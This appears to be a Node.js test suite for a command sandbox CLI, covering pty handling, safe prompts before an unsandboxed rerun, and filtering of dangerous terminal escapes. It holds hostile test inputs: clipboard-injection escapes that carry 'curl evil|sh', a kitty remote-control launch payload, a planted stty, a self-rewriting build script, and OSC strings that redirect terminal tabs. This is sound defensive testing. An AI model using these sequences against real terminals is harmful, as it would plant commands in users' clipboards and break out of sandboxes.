'use strict'
// The CLI on a terminal (issue 18): the command gets a pty of the terminal's size, our terminal
// goes raw and comes back, window changes and Ctrl-C reach the command; --no-pty turns it off;
// piped stdin is always forwarded.

const test = require('node:test')
const assert = require('node:assert/strict')
const path = require('node:path')
const { spawnSync } = require('node:child_process')

const CLI = path.join(__dirname, '..', 'bin', 'sandspawn.js')
const DRIVER = path.join(__dirname, 'fixtures', 'pty-driver.py')
const HANG_MS = 60000
const run = (cmd, args, opts = {}) => spawnSync(cmd, args, { encoding: 'utf8', timeout: HANG_MS, killSignal: 'SIGKILL', ...opts })
// `script` writes its terminal's end-of-file character as soon as its own stdin ends (spawnSync
// closes it at once), usually before the CLI starts; the CLI must see it as the end of its input.
const scriptRun = (command, opts = {}) => run('script', ['-qec', command, '/dev/null'], opts)
const ctx = (r) => `status ${r.status} signal ${r.signal}\nstdout: ${r.stdout}\nstderr: ${r.stderr}`

test('piped stdin is forwarded: seq 1 5 | sandspawn -- wc -l prints 5', () => {
  const r = run('sh', ['-c', `seq 1 5 | "${process.execPath}" "${CLI}" -- wc -l`])
  assert.equal(r.status, 0, ctx(r))
  assert.equal(r.stdout.trim(), '5')
})

test('on a terminal the command gets a pty of its size; resize and Ctrl-C are forwarded; the terminal is restored', () => {
  const script = 'tty; stty size; trap "stty size" WINCH; echo ready; while :; do sleep 0.05; done'
  for (const mode of ['read-only', 'danger-full-access']) {
    const r = run('python3', [DRIVER, process.execPath, CLI, '--mode', mode, '--', 'sh', '-c', script])
    assert.equal(r.status, 0, ctx(r))
    const seen = JSON.parse(r.stdout)
    assert.equal(seen.error, undefined, seen.error)
    // The command's pty made its \n a \r\n; the CLI's own terminal adds nothing (no \r\r\n).
    assert.doesNotMatch(seen.output, /\r\r\n/, JSON.stringify(seen.output))
    seen.output = seen.output.replace(/\r\n/g, '\n')
    assert.match(seen.output, /\/dev\/(pts\/\d+|console)\n30 100\n/, seen.output)
    assert.match(seen.output, /ready\n50 132/)
    assert.equal(seen.rawDuring, true, 'the CLI put its terminal in raw mode')
    assert.equal(seen.code, 130, `Ctrl-C ended the foreground job: ${seen.output}`)
    assert.equal(seen.restored, true, 'the terminal mode is restored')
  }
})

test('the host-side stty is the system one, never a planted one found in PATH', (t) => {
  // The CLI runs stty on the host (output processing off for a pty run). Looked up in PATH, it ran a
  // planted node_modules/.bin/stty unsandboxed under `npm run`, which puts that directory first.
  const fs = require('node:fs')
  const dir = fs.mkdtempSync(path.join(require('node:os').tmpdir(), 'ss-stty-'))
  t.after(() => fs.rmSync(dir, { recursive: true, force: true }))
  const marker = path.join(dir, 'PLANTED-STTY-RAN')
  fs.writeFileSync(path.join(dir, 'stty'), `#!/bin/sh\ntouch ${marker}\nexit 1\n`, { mode: 0o755 })
  const r = scriptRun(`"${process.execPath}" "${CLI}" -- sh -c 'echo hi'`, { env: { ...process.env, PATH: `${dir}:${process.env.PATH}` } })
  assert.equal(r.status, 0, ctx(r))
  assert.match(r.stdout, /hi/, ctx(r))
  assert.equal(fs.existsSync(marker), false, 'the planted stty ran on the host')
})

test('under `script`: the command sees a terminal; --no-pty forwards stdin as a pipe instead', () => {
  const inner = (flags) => `"${process.execPath}" "${CLI}" ${flags} -- sh -c 'tty; [ -t 0 ] && echo stdin-tty || echo stdin-pipe; stty -g >/dev/null 2>&1 && echo has-ctty || echo no-ctty'; stty -g`
  const before = scriptRun('stty -g')
  const withPty = scriptRun(inner(''))
  assert.equal(withPty.status, 0, ctx(withPty))
  assert.match(withPty.stdout, /\/dev\/console\r*\nstdin-tty\r*\nhas-ctty/, ctx(withPty))
  const restored = withPty.stdout.trim().split(/\r?\n/).pop()
  assert.equal(restored, before.stdout.trim(), 'stty -g after the run equals the terminal\'s mode before')
  const noPty = scriptRun(inner('--no-pty'), { input: '' })
  assert.equal(noPty.status, 0, ctx(noPty))
  assert.match(noPty.stdout, /not a tty\r?\nstdin-pipe/, ctx(noPty))
})

test('a failing command in a pty still restores the terminal and exits with its status', () => {
  const before = scriptRun('stty -g').stdout.trim()
  const r = scriptRun(`"${process.execPath}" "${CLI}" -- sh -c 'exit 7'; echo "cli=$?"; stty -g`)
  const lines = r.stdout.trim().split(/\r?\n/)
  assert.equal(lines.at(-2), 'cli=7', ctx(r))
  assert.equal(lines.at(-1), before)
  const missing = scriptRun(`"${process.execPath}" "${CLI}" -- no-such-command-pty; echo "cli=$?"; stty -g`)
  const ml = missing.stdout.trim().split(/\r?\n/)
  assert.equal(ml.at(-2), 'cli=127', ctx(missing))
  assert.equal(ml.at(-1), before)
})

test('under `script` with its stdin at its end: the command reads the end of its input (not ^@), and the log has \\r\\n, not \\r\\r\\n', () => {
  const r = scriptRun(`"${process.execPath}" "${CLI}" -- sh -c 'echo one; echo two; cat -A; echo ended'`, { input: '' })
  assert.equal(r.status, 0, ctx(r))
  assert.equal(r.stdout, 'one\r\ntwo\r\nended\r\n', JSON.stringify(r.stdout))
})

// ---- type-ahead: keys typed before a question appeared never answer it ------------------------

const TYPING = path.join(__dirname, 'fixtures', 'typing-driver.py')
/** The CLI on a terminal, typed at as `steps` say (see fixtures/typing-driver.py). */
function typing(steps, args, opts = {}) {
  const r = run('python3', [TYPING, JSON.stringify(steps), process.execPath, CLI, ...args], opts)
  assert.equal(r.status, 0, ctx(r))
  return JSON.parse(r.stdout)
}

test('--ask: a "y" typed for the command\'s own question does not answer "Run again without the sandbox?"', (t) => {
  const fs = require('node:fs')
  // Not /tmp: a sandboxed run may write there. The command asks its own question, waits (its
  // stdin is /dev/null: the "y" stays in the terminal's queue), then hits a real denial.
  const dir = fs.realpathSync(fs.mkdtempSync('/var/tmp/ss-typeahead-'))
  t.after(() => fs.rmSync(dir, { recursive: true, force: true }))
  const marker = path.join(dir, 'RAN-UNSANDBOXED')
  const command = ['--ask', '--', 'sh', '-c', `printf 'Install the git hooks for this project? [y/N] '; sleep 1; echo; echo ran > ${marker}`]
  const fake = 'this project? [y/N] '
  const real = 'Run again without the sandbox? [yes/N] '

  const typedAhead = typing([[fake, 'y\r'], [real, 'n\r']], command)
  assert.equal(fs.existsSync(marker), false, `the "y" typed before the question reran the command unsandboxed:\n${typedAhead.output}`)
  assert.equal(typedAhead.unused.length, 0, typedAhead.output)
  assert.notEqual(typedAhead.code, 0, typedAhead.output)

  // A bare "y" at the question itself is not enough either: running as the user takes "yes".
  const bareY = typing([[real, 'y\r']], command)
  assert.equal(fs.existsSync(marker), false, bareY.output)
  assert.match(bareY.output, /not run again: type "yes" in full to run it without the sandbox/, bareY.output)

  const answered = typing([[fake, 'y\r'], [real, 'yes\r']], command)
  assert.equal(answered.code, 0, answered.output)
  assert.equal(fs.readFileSync(marker, 'utf8'), 'ran\n', `"yes" typed at the question reruns it:\n${answered.output}`)
})

test('--ask: the question says what the sandboxed attempt changed, and warns when that is the command\'s own script', (t) => {
  const fs = require('node:fs')
  const ws = fs.realpathSync(fs.mkdtempSync('/var/tmp/ss-esc-changes-'))
  t.after(() => fs.rmSync(ws, { recursive: true, force: true }))
  // The attempt rewrites build.sh (what the retry would run as the user), then forges a denial.
  fs.writeFileSync(path.join(ws, 'build.sh'), "cat > build.sh <<EOS\necho pwned\nEOS\necho \"cp: cannot create regular file '/usr/local/lib/libfoo.so': Permission denied\" >&2\nexit 1\n")
  const r = typing([['without the sandbox? [yes/N] ', 'n\r']], ['--ask', '--mode', 'workspace-write', '--', 'sh', 'build.sh'], { cwd: ws })
  assert.match(r.output, /sandspawn: the sandboxed attempt changed 1 file: build\.sh; running again without the sandbox runs them as you\n/, r.output)
  assert.match(r.output, /sandspawn: warning: the sandboxed attempt changed build\.sh, which this command runs: without the sandbox it runs the changed build\.sh, not the one you started\n/, r.output)
  assert.ok(r.output.indexOf('warning: the sandboxed attempt') < r.output.indexOf('Run again without the sandbox?'), r.output)
})

test('--review --ask: after a run again without the sandbox, the sandboxed attempt\'s change set is shown and asked about', (t) => {
  const fs = require('node:fs')
  const base = fs.realpathSync(fs.mkdtempSync('/var/tmp/ss-esc-review-'))
  t.after(() => fs.rmSync(base, { recursive: true, force: true }))
  const ws = path.join(base, 'ws')
  const out = path.join(base, 'out')
  fs.mkdirSync(ws)
  fs.mkdirSync(out)
  const env = { ...process.env, SANDSPAWN_CHANGE_SET_DIR: path.join(base, 'store') }
  const command = ['--review', '--ask', '--', 'sh', '-c', `echo attempt > made.txt; echo hello > ${out}/written.txt`]
  const r = typing([['without the sandbox? [yes/N] ', 'yes\r'], ['pending? ', 'd\r']], command, { cwd: ws, env })
  assert.equal(r.unused.length, 0, r.output)
  assert.match(r.output, /change set (cs-[0-9a-f]{16}): 1 added, 0 modified, 0 deleted/, r.output)
  assert.match(r.output, /ran again without the sandbox/, r.output)
  assert.match(r.output, /discarded cs-/, r.output)
  assert.equal(fs.readFileSync(path.join(out, 'written.txt'), 'utf8'), 'hello\n')
  assert.deepEqual(fs.readdirSync(path.join(base, 'store')).filter((n) => n.startsWith('cs-')), [], 'nothing left pending')
})

/**
 * The number of each OSC string in `text` as a terminal reads it (C0 characters inside skipped, as
 * tmux does; between ESC and ] a C0 control other than CAN and SUB is executed and DEL ignored).
 */
function oscNumbers(text) {
  const numbers = []
  for (const m of text.matchAll(/(?:\x1b[\x00-\x17\x19\x1c-\x1f\x7f]*\]|\x9d)([0-9\x00-\x06\x08-\x17\x19\x1c-\x1f]*);/g)) numbers.push(Number(m[1].replace(/[^0-9]/g, '')))
  return numbers
}

test("a command's OSC 52, 1337 and 5522 and its APC and DCS strings (the host's clipboard, iTerm2's downloads, kitty's graphics from host files and shared memory, kitty's remote control) never reach the terminal; other OSC strings do", (t) => {
  // Found by an attacker's review (mode35): a read-only run's printf '\033]52;c;<base64>\a' went to
  // the terminal as it was, and kitty, WezTerm, Alacritty, foot, Windows Terminal and tmux
  // (set-clipboard) put its text on the host's clipboard, for the user's next paste into a shell;
  // '\033]52;c;?\a' has a terminal that allows it type the clipboard into the command's input.
  const parts = [
    '\\033]52;c;Y3VybCBldmlsfHNo\\007', // BEL-terminated
    '\\033]052;p;Y3VybCBldmlsfHNo\\033\\\\', // leading zero, ESC \ terminated
    '\\302\\23552;c;Y3VybCBldmlsfHNo\\007', // 8-bit OSC as UTF-8 (U+009D)
    '\\033]5\\0012;c;Y3VybCBldmlsfHNo\\007', // a C0 inside the number (tmux skips it)
    '\\033\\005\\177]52;c;Y3VybCBldmlsfHNo\\007', // ENQ and DEL between ESC and ] (executed, ignored: rfix35)
    '\\033\\001_Ga=T,t=f;L2V0Yy9wYXNzd2Q=\\033\\\\', // the same before an APC
    '\\033]52;c;?\\007', // a query
    '\\033]1337;Copy=:Y3VybCBldmlsfHNo\\007', // iTerm2's own clipboard copy
    '\\033]1337;File=name=eA==;size=1;inline=0:eA==\\007', // iTerm2's download to ~/Downloads
    '\\033]50;Copy=:Y3VybCBldmlsfHNo\\007', // iTerm2's older number for 1337 (rfix35)
    '\\033]5522;type=write;Y3VybCBldmlsfHNo\\033\\\\', // kitty's clipboard protocol
    '\\033_Ga=T,t=s,f=24,s=1,v=1;L2RiLXNobQ==\\033\\\\', // kitty graphics: reads and unlinks a host shm object
    // kitty's remote control: launches a program on the host (allow_remote_control yes; mode37)
    '\\033P@kitty-cmd{"cmd":"launch","version":[0,26,0],"no_response":true,"payload":{"args":["sh","-c","touch /tmp/x"],"type":"background"}}\\033\\\\',
    '\\033Ptmux;\\033\\033P@kitty-cmd{"cmd":"send-text"}\\033\\033\\\\\\033\\\\', // the same through tmux's passthrough
    '\\302\\220@kitty-cmd{"cmd":"launch"}\\033\\\\', // the 8-bit DCS as UTF-8 (U+0090)
    '\\033]52c;bm9zZW1pY29sb24=\\007', // no ';' after the number: kitty's clipboard all the same (mode37)
    '\\033]000522c;Zml2ZWRpZ2l0cw==\\007', // 00052 to kitty, which reads five digits (mode37)
    '\\033]5X2;c;d2luZG93c3Rlcm0=\\007', // Windows Terminal skips the X: OSC 52 (mode37)
    '\\033\\033]52;c;eA==\\007]52;c;ZXNjZXNjam9pbg==\\007', // the first ESC met the second string's ] (mode37)
  ]
  const fs = require('node:fs')
  const dir = fs.mkdtempSync(path.join(require('node:os').tmpdir(), 'ss-osc52-'))
  t.after(() => fs.rmSync(dir, { recursive: true, force: true }))
  const file = path.join(dir, 'osc.sh')
  fs.writeFileSync(file, `printf '${parts.join('')}A\\033]0;kept-title\\007B'; printf '\\033]5' >&2; sleep 0.2; printf '2;c;Y3VybCBldmlsfHNo\\007C' >&2; printf '\\033]5'; sleep 0.2; printf '2;c;Y3VybCBldmlsfHNo\\007D\\n'\n`)
  for (const flags of ['', '--no-pty']) {
    const r = scriptRun(`"${process.execPath}" "${CLI}" ${flags} -- sh ${file}`)
    assert.equal(r.status, 0, ctx(r))
    assert.deepEqual(oscNumbers(r.stdout).filter((n) => [50, 52, 1337, 5522].includes(n)), [], `${flags}: ${JSON.stringify(r.stdout)}`)
    // What the test wrote as one string reached the terminal as one (when not split between writes
    // to stdout and stderr, which the CLI reads apart: then the terminal saw a cut-off string and text).
    assert.doesNotMatch(r.stdout, /Copy=|File=|type=write|\x1b_|t=s|t=f|kitty-cmd|\x1bP|\x90|bm9zZW1pY29sb24|Zml2ZWRpZ2l0cw|d2luZG93c3Rlcm0/, `${flags}: ${JSON.stringify(r.stdout)}`)
    assert.doesNotMatch(r.stdout, /\x1b\]52;c;ZXNjZXNjam9pbg/, `${flags}: an ESC left open met ]52: ${JSON.stringify(r.stdout)}`)
    assert.match(r.stdout, /A\x1b\]0;kept-title\x07B/, `${flags}: other OSC strings pass: ${JSON.stringify(r.stdout)}`)
    for (const c of ['C', 'D']) assert.ok(r.stdout.includes(c), `${flags}: ${c}: ${JSON.stringify(r.stdout)}`)
  }
})

test("a command's OSC 7, OSC 9, OSC 51 and OSC 633 (the terminal's idea of the shell's directory, where the user's next tab or pane opens) never reach the terminal", (t) => {
  // Found by an attacker's review (mode39): a workspace-write run made `trap/.git` with a
  // core.fsmonitor and printed ESC ]7;file://HOST/.../trap BEL; WezTerm, Ghostty, foot, kitty,
  // GNOME Terminal and Konsole open the next tab, split or window in that directory (Windows
  // Terminal and ConEmu take OSC 9;9, VS Code's split terminal OSC 633;P;Cwd=, Emacs vterm's
  // buffer OSC 51;A), with no sandbox,
  // and a git prompt there runs the hook. Where no shell integration reports the cwd at each
  // prompt it lasts past the run.
  const fs = require('node:fs')
  const dir = fs.mkdtempSync(path.join(require('node:os').tmpdir(), 'ss-osc7-'))
  t.after(() => fs.rmSync(dir, { recursive: true, force: true }))
  const file = path.join(dir, 'cwd.sh')
  const trap = path.join(dir, 'trap')
  fs.writeFileSync(
    file,
    `mkdir -p '${trap}' && printf 'A\\033]7;file://%s${trap}\\007B\\033]9;9;"${trap}"\\033\\\\C\\033]633;P;Cwd=${trap}\\007D\\033]51;Aroot@h:${trap}\\033\\\\F\\033]2;kept-title\\007E\\n' "$(hostname)"\n`,
  )
  for (const flags of ['', '--no-pty']) {
    const r = scriptRun(`"${process.execPath}" "${CLI}" ${flags} --mode workspace-write --cwd "${dir}" -- sh ${file}`)
    assert.equal(r.status, 0, ctx(r))
    assert.ok(fs.statSync(trap).isDirectory(), 'the command made its directory')
    assert.deepEqual(oscNumbers(r.stdout).filter((n) => [7, 9, 51, 633].includes(n)), [], `${flags}: ${JSON.stringify(r.stdout)}`)
    assert.doesNotMatch(r.stdout, /file:\/\/|Cwd=|9;9;|Aroot@/, `${flags}: ${JSON.stringify(r.stdout)}`)
    assert.match(r.stdout, /F\x1b\]2;kept-title\x07E/, `${flags}: other OSC strings pass: ${JSON.stringify(r.stdout)}`)
  }
})
